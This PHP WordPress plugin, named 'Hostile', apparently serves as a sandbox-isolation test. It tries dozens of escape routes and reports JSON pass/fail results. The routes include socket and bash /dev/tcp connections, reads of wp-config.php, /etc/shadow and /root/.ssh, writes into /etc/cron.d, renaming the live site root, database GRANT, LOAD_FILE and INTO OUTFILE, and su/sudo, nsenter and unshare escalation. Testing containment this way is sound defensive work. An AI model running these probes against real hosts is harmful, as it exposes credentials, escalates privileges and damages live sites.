<?php
/*
Plugin Name: Hostile
Description: Tries to leave a copy in every way it can think of. Each try gives whether it got through.
*/
add_action( 'wp_loaded', function () {
	if ( ! isset( $_GET['hostile'] ) ) {
		return;
	}
	$a = json_decode( file_get_contents( __DIR__ . '/aims.json' ), true );
	$out = array();
	$try = function ( $name, $do ) use ( &$out ) {
		try {
			$out[ $name ] = (bool) @$do();
		} catch ( \Throwable $e ) {
			$out[ $name ] = false;
		}
	};
	mysqli_report( MYSQLI_REPORT_OFF );
	$port = (int) $a['port'];
	$heard = function ( $c ) {
		if ( ! $c ) {
			return false;
		}
		stream_set_timeout( $c, 0, 200000 );
		return false !== strpos( (string) fgets( $c ), 'outside' );
	};
	foreach ( array( '127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '127.1', '2130706433', '127.0.0.2', $a['address'], $a['machine'] ) as $host ) {
		$try( "tcp to $host", function () use ( $heard, $host, $port ) { return $heard( stream_socket_client( "tcp://$host:$port", $n, $t, 0.3 ) ); } );
	}
	$try( 'fsockopen', function () use ( $heard, $port ) { return $heard( fsockopen( '127.0.0.1', $port, $n, $t, 0.3 ) ); } );
	$try( 'pfsockopen', function () use ( $heard, $port ) { return $heard( pfsockopen( '127.0.0.1', $port, $n, $t, 0.3 ) ); } );
	$try( 'bound socket', function () use ( $heard, $port ) { return $heard( stream_socket_client( "tcp://127.0.0.1:$port", $n, $t, 0.3, STREAM_CLIENT_CONNECT, stream_context_create( array( 'socket' => array( 'bindto' => '0:0' ) ) ) ) ); } );
	$try( 'sockets extension', function () use ( $port ) { $s = socket_create( AF_INET, SOCK_STREAM, SOL_TCP ); return socket_connect( $s, '127.0.0.1', $port ) && false !== strpos( (string) socket_read( $s, 100 ), 'outside' ); } );
	$try( 'raw socket', function () { return false !== socket_create( AF_INET, SOCK_RAW, 1 ); } );
	$try( 'packet socket', function () { return false !== socket_create( 17, SOCK_RAW, 3 ); } );
	$web = "http://127.0.0.1:{$a['web']}/";
	$short = stream_context_create( array( 'http' => array( 'timeout' => 0.3 ) ) );
	$try( 'file_get_contents', function () use ( $web, $short ) { return false !== file_get_contents( $web, false, $short ); } );
	$try( 'fopen', function () use ( $web, $short ) { return false !== fopen( $web, 'r', false, $short ); } );
	$try( 'copy', function () use ( $web ) { return copy( $web, sys_get_temp_dir() . '/got' ); } );
	$try( 'get_headers', function () use ( $web ) { return false !== get_headers( $web ); } );
	$try( 'readfile', function () use ( $web, $short ) { ob_start(); $n = readfile( $web, false, $short ); ob_end_clean(); return false !== $n; } );
	$try( 'include', function () use ( $web ) { return false !== include $web; } );
	$try( 'getimagesize', function () use ( $web ) { return false !== getimagesize( $web ); } );
	$try( 'XML from afar', function () use ( $web ) { return false !== simplexml_load_file( $web ); } );
	$try( 'DOM from afar', function () use ( $web ) { return ( new DOMDocument() )->load( $web ); } );
	$try( 'ftp', function () use ( $port ) { return false !== ftp_connect( '127.0.0.1', $port, 1 ); } );
	$try( 'ftp as a file', function () use ( $port ) { return false !== file_get_contents( "ftp://127.0.0.1:$port/x" ); } );
	foreach ( array( $web, "http://localhost:{$a['web']}/", home_url( '/', 'http' ) ) as $i => $url ) {
		if ( 2 === $i ) {
			$url = 'http://' . parse_url( home_url(), PHP_URL_HOST ) . ":{$a['web']}/";
		}
		$try( "the CMS asks $i", function () use ( $url ) { $r = wp_remote_get( $url, array( 'timeout' => 1, 'sslverify' => false ) ); return ! is_wp_error( $r ) && false !== strpos( wp_remote_retrieve_body( $r ), 'outside' ); } );
		$try( "the CMS's transport $i", function () use ( $url ) { remove_all_filters( 'pre_http_request' ); $r = wp_remote_get( $url, array( 'timeout' => 1 ) ); return ! is_wp_error( $r ) && false !== strpos( wp_remote_retrieve_body( $r ), 'outside' ); } );
	}
	$try( 'its own page that leads outside', function () { $r = wp_remote_get( home_url( '/?leads-outside=1' ), array( 'timeout' => 2 ) ); return ! is_wp_error( $r ) && false !== strpos( wp_remote_retrieve_body( $r ), 'outside' ); } );
	$run = function ( $command ) { return (string) shell_exec( "( $command ) 2>/dev/null" ); };
	$says = function ( $text ) { return false !== strpos( $text, 'outside' ); };
	$try( 'curl', function () use ( $run, $says, $web ) { return $says( $run( "curl -s -m 1 $web" ) ); } );
	$try( 'bash', function () use ( $run, $says, $port ) { return $says( $run( "timeout 1 bash -c 'head -1 </dev/tcp/127.0.0.1/$port'" ) ); } );
	$try( 'perl', function () use ( $run, $says, $port ) { return $says( $run( "timeout 1 perl -MIO::Socket -e 'print IO::Socket::INET->new(\"127.0.0.1:$port\")->getline'" ) ); } );
	$try( 'proc_open', function () use ( $says, $web ) { $p = proc_open( "curl -s -m 1 $web", array( 1 => array( 'pipe', 'w' ) ), $io ); return $says( (string) stream_get_contents( $io[1] ) ); } );
	$try( 'popen', function () use ( $says, $web ) { return $says( (string) stream_get_contents( popen( "curl -s -m 1 $web", 'r' ) ) ); } );
	foreach ( array( 'fsockopen', 'stream_socket_client' ) as $f ) {
		$try( "datagram by $f", function () use ( $f, $a ) { $c = 'fsockopen' === $f ? fsockopen( 'udp://127.0.0.1', $a['udp'] ) : stream_socket_client( "udp://127.0.0.1:{$a['udp']}" ); fwrite( $c, 'let me out' ); stream_set_timeout( $c, 0, 200000 ); return '' !== (string) fread( $c, 10 ); } );
	}
	$try( 'datagram by the extension', function () use ( $a ) { $s = socket_create( AF_INET, SOCK_DGRAM, SOL_UDP ); socket_set_option( $s, SOL_SOCKET, SO_RCVTIMEO, array( 'sec' => 0, 'usec' => 200000 ) ); socket_sendto( $s, 'let me out', 10, 0, '127.0.0.1', $a['udp'] ); return socket_recvfrom( $s, $b, 10, 0, $f, $p ) > 0; } );
	$try( 'a name that tells', function () { return gethostbyname( 'secret.tides.example' ) !== 'secret.tides.example' && 0 !== strpos( gethostbyname( 'secret.tides.example' ), '198.18.' ); } );
	$try( 'unix socket', function () use ( $heard, $a ) { return $heard( stream_socket_client( 'unix://' . $a['unix'], $n, $t, 0.3 ) ); } );
	$try( 'abstract socket', function () use ( $heard, $a ) { return $heard( stream_socket_client( "unix://\0" . $a['abstract'], $n, $t, 0.3 ) ); } );
	$smtp = function ( $to ) { $c = stream_socket_client( $to, $n, $t, 0.3 ); if ( ! $c ) { return false; } stream_set_timeout( $c, 0, 200000 ); return false !== strpos( (string) fgets( $c ), 'outside' ); };
	$try( 'mail by SMTP', function () use ( $smtp, $a ) { return $smtp( "tcp://127.0.0.1:{$a['port']}" ) || $smtp( 'tcp://127.0.0.1:25' ) || $smtp( 'tcp://mail.example:587' ); } );
	$try( 'mail over TLS', function () use ( $smtp ) { return $smtp( 'ssl://mail.example:465' ); } );
	$try( 'mail by a program', function () use ( $run ) { return false !== strpos( $run( 'echo hello | /usr/sbin/sendmail -t a@b.example && echo sent' ), 'sent' ); } );
	mail( 'a@b.example', 'hostile tide', 'by PHP' );
	wp_mail( 'a@b.example', 'hostile tide', 'by the CMS' );

	$secret = function ( $text ) use ( $a ) { return false !== strpos( (string) $text, $a['password'] ); };
	$config = $a['root'] . '/wp-config.php';
	$link = WP_CONTENT_DIR . '/uploads/link';
	foreach ( array( $config, "/proc/1/root$config", "/proc/self/root$config", ABSPATH . str_repeat( '../', 30 ) . $config, "php://filter/read=string.rot13/resource=$config", "file://$config", "glob://$config", "/proc/{$a['pid']}/root$config", "/proc/{$a['pid']}/cwd/wp-config.php" ) as $i => $path ) {
		$try( "reading the live configuration $i", function () use ( $path, $secret ) { $t = file_get_contents( $path ); return $secret( $t ) || $secret( str_rot13( (string) $t ) ); } );
	}
	$try( 'reading it by an object', function () use ( $config, $secret ) { $f = new SplFileObject( $config ); return $secret( $f->fread( 100000 ) ); } );
	$try( 'reading it by a link', function () use ( $config, $secret, $link ) { unlink( $link ); symlink( $config, $link ); return $secret( file_get_contents( $link ) ); } );
	$try( 'reading it by a hard link', function () use ( $config, $secret, $link ) { return link( $config, $link . '2' ) && $secret( file_get_contents( $link . '2' ) ); } );
	$try( 'reading it by a program', function () use ( $config, $secret, $run ) { return $secret( $run( 'cat ' . escapeshellarg( $config ) ) ); } );
	$try( 'finding it', function () use ( $a, $run ) { return is_dir( $a['root'] ) || '' !== trim( $run( 'ls ' . escapeshellarg( $a['root'] ) ) ); } );
	foreach ( array( '/etc/shadow', '/root/.ssh', '/var/log', $a['home'] . '/config.toml', $a['home'] . '/alibi.db', $a['other'] . '/wp-config.php', '/proc/1/environ', "/proc/{$a['pid']}/environ", '/dev/vda', '/dev/mem', '/sys/kernel' ) as $path ) {
		$try( "reading $path", function () use ( $path ) { return is_dir( $path ) ? (bool) scandir( $path ) : false !== file_get_contents( $path, false, null, 0, 10 ) && '/proc/1/environ' !== $path; } );
	}
	foreach ( array( $a['root'], $a['other'], $a['home'], '/etc/cron.d', '/usr/bin', '/var/spool/cron', '/root', dirname( ABSPATH ) ) as $dir ) {
		$try( "writing into $dir", function () use ( $dir ) { return false !== file_put_contents( "$dir/hostile", 'was here' ) && $dir !== '/root'; } );
		$try( "a folder in $dir", function () use ( $dir ) { return mkdir( "$dir/hostile-folder" ); } );
	}
	$try( 'writing by a program', function () use ( $run, $a ) { return false !== strpos( $run( 'echo x >' . escapeshellarg( $a['root'] . '/hostile' ) . ' && echo wrote' ), 'wrote' ); } );
	$try( 'moving the live root', function () use ( $a ) { return rename( $a['root'], $a['root'] . '-gone' ); } );

	$open = function ( $account, $password, $database ) use ( $a ) { $db = mysqli_init(); return mysqli_real_connect( $db, 'localhost', $account, $password, $database, null, $a['socket'] ) ? $db : null; };
	$try( 'the live database', function () use ( $open, $a ) { $db = $open( $a['account'], $a['password'], $a['database'] ); return $db && $db->query( "INSERT INTO sk_options (option_name, option_value) VALUES ('hostile', 'mysqli')" ); } );
	$try( 'the live database by PDO', function () use ( $a ) { $db = new PDO( "mysql:unix_socket={$a['socket']};dbname={$a['database']}", $a['account'], $a['password'] ); return $db->exec( "INSERT INTO sk_options (option_name, option_value) VALUES ('hostile', 'pdo')" ) > 0; } );
	$try( 'the live database by the CMS', function () use ( $a ) { $db = new wpdb( $a['account'], $a['password'], $a['database'], 'localhost:' . $a['socket'] ); return (bool) $db->get_var( 'SELECT COUNT(*) FROM sk_options' ); } );
	$try( 'the live database by a program', function () use ( $run, $a ) { return false !== strpos( $run( "mariadb -u {$a['account']} -p{$a['password']} -S {$a['socket']} {$a['database']} -e 'SELECT 6*7'" ), '42' ); } );
	$try( 'the administrator of the database', function () use ( $open ) { return (bool) $open( 'root', '', '' ); } );
	$try( 'nobody in the database', function () use ( $open ) { return (bool) $open( '', '', '' ); } );
	$try( 'another account in between', function () use ( $a ) { global $wpdb; return mysqli_change_user( $wpdb->dbh, $a['account'], $a['password'], $a['database'] ); } );
	global $wpdb;
	$wpdb->db_connect( false );
	$wpdb->suppress_errors();
	$try( 'the live tables from its own account', function () use ( $a ) { global $wpdb; return (bool) $wpdb->get_var( "SELECT COUNT(*) FROM `{$a['database']}`.sk_options" ); } );
	$try( 'a grant', function () use ( $a ) { global $wpdb; return (bool) $wpdb->query( "GRANT ALL ON *.* TO CURRENT_USER()" ); } );
	$try( 'a file by the server', function () { global $wpdb; return (bool) $wpdb->get_var( "SELECT LOAD_FILE('/etc/passwd')" ); } );
	$try( 'a file written by the server', function () use ( $a ) { global $wpdb; return (bool) $wpdb->query( "SELECT 'x' INTO OUTFILE '{$a['root']}/hostile.php'" ); } );
	$try( 'what others ask the server', function () use ( $a ) { global $wpdb; return (bool) array_filter( (array) $wpdb->get_col( 'SELECT USER FROM information_schema.PROCESSLIST' ), function ( $u ) { return DB_USER !== $u; } ); } );

	$try( 'ending a process of the machine', function () use ( $a ) { return posix_kill( (int) $a['pid'], 0 ); } );
	$try( 'becoming root', function () { return posix_setuid( 0 ); } );
	$try( 'being root', function () { return 0 === posix_geteuid(); } );
	$try( 'su', function () use ( $run ) { return false !== strpos( $run( 'su -c id; sudo -n id' ), 'uid=0' ); } );
	$try( 'mounting', function () use ( $run ) { return false !== strpos( $run( 'cd ' . escapeshellarg( sys_get_temp_dir() ) . ' && mkdir -p m && mount -t tmpfs none m && echo mounted; umount m' ), 'mounted' ); } );
	$try( 'entering the first world', function () use ( $run ) { return false !== strpos( $run( 'nsenter -t 1 -a cat /etc/shadow' ), 'root:' ); } );
	$try( 'a world of its own in which it is root', function () use ( $run ) { return false !== strpos( $run( 'unshare -Urmn --mount-proc cat /etc/shadow' ), 'root:' ); } );
	$try( 'shared memory', function () use ( $a ) { return false !== shmop_open( (int) $a['shm'], 'a', 0, 0 ); } );
	$try( 'another process list', function () use ( $a, $run ) { return is_dir( "/proc/{$a['pid']}/fd" ) || count( glob( '/proc/[0-9]*' ) ) > 60; } );
	header( 'Content-Type: application/json' );
	echo json_encode( $out );
	exit;
} );

add_action( 'init', function () {
	if ( isset( $_GET['leads-outside'] ) ) {
		$a = json_decode( file_get_contents( __DIR__ . '/aims.json' ), true );
		header( "Location: http://127.0.0.1:{$a['web']}/", true, 302 );
		exit;
	}
	if ( isset( $_GET['legitimate'] ) ) {
		update_option( 'tide_count', 1 + (int) get_option( 'tide_count' ) );
		$up = wp_upload_bits( 'tide.jpg', null, 'high' );
		$own = wp_remote_get( home_url( '/' ), array( 'timeout' => 5 ) );
		echo 'count ', get_option( 'tide_count' ), ', upload ', empty( $up['error'] ) ? 'whole' : $up['error'],
			', own page ', is_wp_error( $own ) ? $own->get_error_message() : wp_remote_retrieve_response_code( $own );
		exit;
	}
}, 1 );
